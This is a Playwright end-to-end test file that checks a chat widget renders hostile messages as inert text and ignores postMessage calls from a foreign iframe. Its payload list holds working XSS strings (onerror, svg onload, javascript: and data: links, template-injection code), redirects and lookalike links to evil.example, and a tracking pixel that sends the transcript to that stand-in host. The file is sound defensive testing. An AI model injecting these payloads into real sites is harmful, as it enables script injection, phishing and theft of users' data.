"""Texts that attack the browser, in whatever they are shown, and windows that pretend to be the panel."""

from typing import Any

from playwright.sync_api import Route

from tests.e2e.widget.conftest import Visit
from tests.support.product import Product

_PWN = "globalThis.pwned=1"
CORPUS = (
    f'<img src=x onerror="{_PWN}">',
    f"<script>{_PWN}</script>",
    f"<svg/onload={_PWN}>",
    f'"><details open ontoggle={_PWN}>',
    f"</textarea></style></script><iframe srcdoc='<script>parent.{_PWN}</script>'>",
    "<style>*{display:none!important}</style><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"[free demo](javascript:{_PWN})",
    f"[free demo](JaVa\tScRiPt:{_PWN})",
    f"[free demo](data:text/html,<script>{_PWN}</script>)",
    "[free demo](https://calendly.com@evil.example/)",
    "[free demo](https://calendly.com.evil.example/)",
    "[free demo](//evil.example/)",
    "[free demo](https://calendly.com\\@evil.example/)",
    "![pixel](https://evil.example/steal?q=transcript)",
    "https://evil.example/phish and www.evil.example",
    f"[a](x' onmouseover='{_PWN})",
    f"`<img src=x onerror={_PWN}>` **<b onclick={_PWN}>bold</b>** # <h1>",
    f"&lt;img src=x onerror={_PWN}&gt; \\u003cscript\\u003e",
    f"{{{{constructor.constructor('{_PWN}')()}}}}",
    "\u202eevil\u202c \u2028\u2029 \U000e0041",
    "[" * 2_000 + "x" + "](" * 2_000,
    "*" * 5_000,
)
_ELEMENTS = "img, script, iframe, object, embed, svg, style, base, meta, form, [onerror], [onclick], [onload]"


def messages_of(transcript: dict[str, Any]) -> list[dict[str, Any]]:
    """The corpus as said by each side, beside what was really said."""
    sample, messages = transcript["messages"][-1], list(transcript["messages"])
    for number, text in enumerate(CORPUS * 2):
        identity = f"00000000-0000-0000-0000-{number:012}"
        by = (
            {"role": "visitor", "written_by": "visitor"}
            if number % 2
            else {"written_by": "model", "role": "bot"}
        )
        own = {"id": identity, "turn_id": identity, "answers": [], "sequence": 100 + number}
        own |= {"text": text, "suggestions": [text[:90]]}
        messages.append(sample | by | own)
    return messages


def test_whatever_is_said_stays_text(visit: Visit, product: Product):
    tab = visit("strict/home")
    tab.open()
    tab.say("Hello, I run a bakery.")

    def with_the_corpus(route: Route) -> None:
        transcript = route.fetch().json()
        route.fulfill(json=transcript | {"messages": messages_of(transcript)})

    tab.context.route("**/conversation/*", with_the_corpus)
    tab.page.reload()
    tab.is_ready()
    tab.answered(2 + 2 * len(CORPUS))
    for text in CORPUS[:8]:
        tab.say(text)
    tab.page.mouse.move(300, 300)

    assert tab.panel.locator("#log").locator(_ELEMENTS).count() == 0
    assert [frame.evaluate("globalThis.pwned") for frame in tab.page.frames] == [None] * len(tab.page.frames)
    assert CORPUS[0] in tab.said
    hosts = tab.panel.locator("#log a").evaluate_all("links => links.map((link) => new URL(link.href).host)")
    assert [host for host in hosts if "evil" in host] == []
    assert [address for address in tab.requested if "evil" in address] == []
    assert tab.page.url.startswith("http://localhost")


_PRETENDER = """
globalThis.seen = [];
addEventListener("message", ({ data, ports }) => seen.push(JSON.stringify([data, ports.length])));
for (const word of ["salesbot:hello", "hello", { kind: "close" }]) parent.postMessage(word, "*");
"""


def test_a_foreign_window_is_told_nothing(visit: Visit):
    tab = visit("plain/home")
    tab.open()
    tab.say("Hello, I run a bakery.")
    tab.page.evaluate(
        "document.body.append(Object.assign(document.createElement('iframe'), { name: 'foreign' }))"
    )
    foreign = tab.page.frame(name="foreign")
    assert foreign is not None

    foreign.evaluate(_PRETENDER)
    tab.page.evaluate("for (const word of ['salesbot:hello', { kind: 'close' }]) postMessage(word, '*')")
    tab.say("We are 12 people.")

    assert foreign.evaluate("seen") == []
    expect_ours = tab.page.evaluate("Object.values({ ...localStorage }).join()")
    assert expect_ours, "the token is kept by the page that embeds"
